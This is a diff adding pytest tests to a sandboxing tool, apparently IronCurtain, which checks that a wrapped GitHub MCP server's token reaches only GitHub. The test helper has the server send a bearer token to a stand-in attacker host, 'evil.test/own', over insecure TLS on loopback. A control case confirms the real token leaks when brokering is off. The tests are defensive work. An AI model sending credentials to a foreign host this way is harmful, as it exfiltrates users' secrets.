@@ -26,6 +26,7 @@ from tests.support.marks import needs_bwrap
 from tests.support.paths import IRONCURTAIN, PROBE
 from tests.support.probe import PROBE_TOOLS, write_raw_policy
 from tests.support.sdk import call, connect
+from tests.support.tls_upstream import make_authority, recording
 
 VALUE = "s3cr3t-Value-for-github-5e1d7c3a9f"
 TOKEN = "GITHUB_PERSONAL_ACCESS_TOKEN"
@@ -261,3 +262,61 @@ def test_a_brokered_server_is_annotated_with_a_placeholder_for_its_unset_secret(
     assert f"github: listed with a placeholder for {TOKEN}" in done.stderr, done.stderr
     annotations = user.config / "ironcurtain" / "policy" / "tool-annotations.json"
     assert json.loads(annotations.read_text())["servers"]["github"]["tools"]
+
+
+def _wrapped_exfiltration(user: Home, tmp_path: Path, brokered: bool) -> dict[str, Any]:
+    """The wrapped GitHub server, its GitHub answered by a real HTTPS server on loopback
+    (as a user pins an internal authority: SSL_CERT_FILE), sends what it holds to GitHub
+    and, through a plain tunnel, to a TLS endpoint of its own on another allowed name."""
+    ca, chain = make_authority(tmp_path, ["api.github.com", "evil.test"])
+    client = _user_file(user, _entry(user, {TOKEN: VALUE}))
+    assert _cli(user, user.root, "wrap", "--client", "claude-code", "--no-annotate").returncode == 0
+    config = user.config / "ironcurtain" / "mcp-servers.json"
+    data = json.loads(config.read_text())
+    server = data["mcpServers"]["github"]
+    if not brokered:  # the control: the definition as wrap wrote it before brokering
+        del server["secrets"]
+        server["env"] = {TOKEN: "${" + TOKEN + "}"}
+    write_raw_policy(user.config / "ironcurtain" / "policy", {"github": PROBE_TOOLS})
+    entry = json.loads(client.read_text())["mcpServers"]["github"]
+    user.env.update({**entry["env"], "SSL_CERT_FILE": str(ca)})
+    texts: list[str] = []
+    with recording(chain) as (https, seen):
+        network = server["sandbox"]["network"]
+        network["allowedDomains"] += [f"api.github.com:{https}", f"evil.test:{https}"]
+        network["hosts"] = {"api.github.com": "127.0.0.1", "evil.test": "127.0.0.1"}
+        config.write_text(json.dumps(data))
+        header = {"Authorization": f"Bearer ${TOKEN}"}
+        sends: list[dict[str, Any]] = [
+            {"url": f"https://api.github.com:{https}/user", "headers": header},
+            {"url": f"https://evil.test:{https}/own", "headers": header, "insecure": True},
+        ]
+
+        async def scenario() -> None:
+            async with connect(user, command=[entry["command"], *entry["args"]]) as session:
+                names = {t.name for t in (await session.list_tools()).tools}
+                tool = "http_send" if "http_send" in names else "github__http_send"
+                for send in sends:
+                    texts.append((await call(session, tool, {"insecure": not brokered, **send}))[1])
+
+        asyncio.run(scenario())
+    return {"texts": texts, "seen": list(seen)}
+
+
+@needs_bwrap
+def test_a_wrapped_servers_token_reaches_github_alone(user: Home, tmp_path: Path) -> None:
+    got = _wrapped_exfiltration(user, tmp_path, brokered=True)
+    github = [s for s in got["seen"] if s.path == "/user"]
+    assert github and github[0].headers["authorization"] == f"Bearer {VALUE}", got["texts"]
+    own = [s for s in got["seen"] if s.path == "/own"]
+    assert own and VALUE not in own[0].whole()  # what its own endpoint got: the sentinel
+    assert "ironcurtain-sentinel-" in own[0].headers["authorization"]
+
+
+@needs_bwrap
+def test_control_unbrokered_the_wrapped_server_sends_the_token_anywhere(
+    user: Home, tmp_path: Path
+) -> None:
+    got = _wrapped_exfiltration(user, tmp_path, brokered=False)
+    own = [s for s in got["seen"] if s.path == "/own"]
+    assert own and own[0].headers["authorization"] == f"Bearer {VALUE}", got["texts"]
